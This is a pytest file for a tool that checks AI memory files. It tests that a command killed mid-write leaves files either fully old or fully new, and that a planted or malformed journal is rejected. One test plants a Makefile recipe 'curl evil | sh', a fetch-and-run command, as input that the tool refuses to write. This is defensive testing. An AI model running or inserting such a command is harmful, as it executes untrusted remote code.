"""A kill at any instant of a command that writes several files loses nothing (issue 25, item 6).

The real CLI in subprocesses on real git checkouts, killed with SIGKILL: at every boundary between
two of its file writes (deterministic), and at random delays (a fixed seed). After each kill the
next command must see every file as before or every file as after, no span may lose its
fingerprint, and running the command again must reach what an uninterrupted run reaches.
benchmarks/killsafe.py runs the same trials by the hundred.
"""

from __future__ import annotations

import json
import random
import subprocess
import sys
from pathlib import Path

import pytest

from anchorcheck.memory.journal import JOURNAL_NAME
from tests._killsafe_support import Outcome, Trials, environment, kill_at_replace, snapshot
from tests.conftest import needs_git

pytestmark = needs_git

RANDOM_KILLS = 20


def _judge(outcomes: list[Outcome]) -> None:
    assert [o for o in outcomes if o.torn] == [], "a kill left some files old and some new"
    assert [o for o in outcomes if o.lost] == [], "a kill lost span fingerprints"
    assert [o for o in outcomes if not o.converged] == [], "a re-run did not finish the job"


@pytest.mark.parametrize("command", ["relocate", "rebank", "suggest", "lock"])
def test_a_kill_at_any_write_or_any_instant_leaves_the_old_state_or_the_new(command: str, tmp_path: Path) -> None:
    trials = Trials(command, tmp_path)
    at_each_write = [trials.run_until_replace(k) for k in range(len(trials.touched) + 2)]
    _judge(at_each_write)
    if len(trials.touched) > 1:  # the kills did land between two writes, where the old code tore the files
        assert sum(o.landed for o in at_each_write) >= len(trials.touched)
    rng = random.Random(f"killsafe-{command}")
    _judge([trials.run(rng.uniform(0.3, 1.05) * trials.duration) for _ in range(RANDOM_KILLS)])


def test_the_mcp_server_finishes_a_killed_relocate_before_it_reads_the_lock(tmp_path: Path) -> None:
    pytest.importorskip("mcp", reason="the optional 'mcp' extra is not installed")
    from tests.test_mcp import _call

    trials = Trials("relocate", tmp_path)
    root = trials.copy()
    kill_at_replace(root, 2, trials.argv)  # the journal and the lock written, no memory file yet
    assert (root / JOURNAL_NAME).exists() and snapshot(root)["anchorcheck.lock"] == trials.after["anchorcheck.lock"]
    _, (result,) = _call(root, [("verify_memory", {"text": "f1", "anchors": ["span:src/app.py#L6-L7"]})])
    assert result.structured_content["verdict"] == "VERIFIED"  # the lock's new key, read after the write was finished
    assert snapshot(root) == trials.after


def _anchorcheck(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "anchorcheck", *args, "--root", str(root)], capture_output=True, text=True, env=environment())


def _journal(root: Path, entries: list[dict[str, object]]) -> None:
    (root / JOURNAL_NAME).write_text(json.dumps({"version": 1, "files": entries}))


def _entry(path: str, before: bytes | None, after: str) -> dict[str, object]:
    import hashlib

    return {
        "path": path,
        "before": None if before is None else hashlib.sha256(before).hexdigest(),
        "after": hashlib.sha256(after.encode()).hexdigest(),
        "text": after,
    }


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    from tests.conftest import init_repo, write_tree

    root = tmp_path / "repo"
    write_tree(root, {"a.py": "x = 1\n", "CLAUDE.md": "- x is one. `file:a.py`\n", "Makefile": "all:\n\ttrue\n"})
    return init_repo(root)


def test_a_journal_a_killed_command_left_is_finished_by_the_next_command(checkout: Path) -> None:
    before = (checkout / "CLAUDE.md").read_bytes()
    _journal(checkout, [_entry("CLAUDE.md", before, "- x is one. `file:a.py` `file:gone.py`\n"), _entry("AGENTS.md", None, "- new\n")])
    done = _anchorcheck(checkout, "check")
    assert done.returncode == 0 and "REFUTED file:gone.py" in done.stdout  # read after the write was finished (never existed: a warning)
    assert (checkout / "AGENTS.md").read_text() == "- new\n"
    assert not (checkout / JOURNAL_NAME).exists()


@pytest.mark.parametrize(
    ("target", "reason"),
    [
        ("Makefile", "neither a memory file nor a lock"),
        (".git/hooks/CLAUDE.md", "inside a .git folder"),
        ("../elsewhere/CLAUDE.md", "outside the checkout, and absent"),
    ],
)
def test_a_planted_journal_writes_nothing_anchorcheck_would_not(checkout: Path, target: str, reason: str) -> None:
    path = checkout / target
    old = path.read_bytes() if path.exists() else None
    _journal(checkout, [_entry("CLAUDE.md", (checkout / "CLAUDE.md").read_bytes(), "- rewritten\n"), _entry(target, old, "all:\n\tcurl evil | sh\n")])
    done = _anchorcheck(checkout, "check")
    assert done.returncode == 0, done.stderr
    assert f"{JOURNAL_NAME}: not replayed" in done.stderr and reason in done.stderr
    assert (checkout / "CLAUDE.md").read_text() == "- x is one. `file:a.py`\n"  # nothing of it is written
    assert (path.read_bytes() if path.exists() else None) == old
    assert (checkout / JOURNAL_NAME).exists(), "left for a person to look at"


def test_a_file_changed_since_the_kill_is_left_as_it_is(checkout: Path) -> None:
    _journal(checkout, [_entry("CLAUDE.md", b"- what it held at the kill\n", "- the command's new text\n"), _entry("AGENTS.md", None, "- y\n")])
    done = _anchorcheck(checkout, "check")
    assert "CLAUDE.md: changed since an anchorcheck command was killed while writing it; left as it is" in done.stderr
    assert (checkout / "CLAUDE.md").read_text() == "- x is one. `file:a.py`\n"
    assert (checkout / "AGENTS.md").read_text() == "- y\n"
    assert not (checkout / JOURNAL_NAME).exists()


@pytest.mark.parametrize("text", ["", "{", '{"version": 1, "files": [{"path": "CLAUDE.md"}]}', '{"version": 7, "files": []}', "\udcff"])
def test_a_malformed_journal_is_one_warning_never_a_traceback(checkout: Path, text: str) -> None:
    (checkout / JOURNAL_NAME).write_bytes(text.encode("utf-8", "surrogateescape"))
    done = _anchorcheck(checkout, "check")
    assert done.returncode == 0 and "Traceback" not in done.stderr
    assert f"anchorcheck: warning: {JOURNAL_NAME}: not replayed" in done.stderr
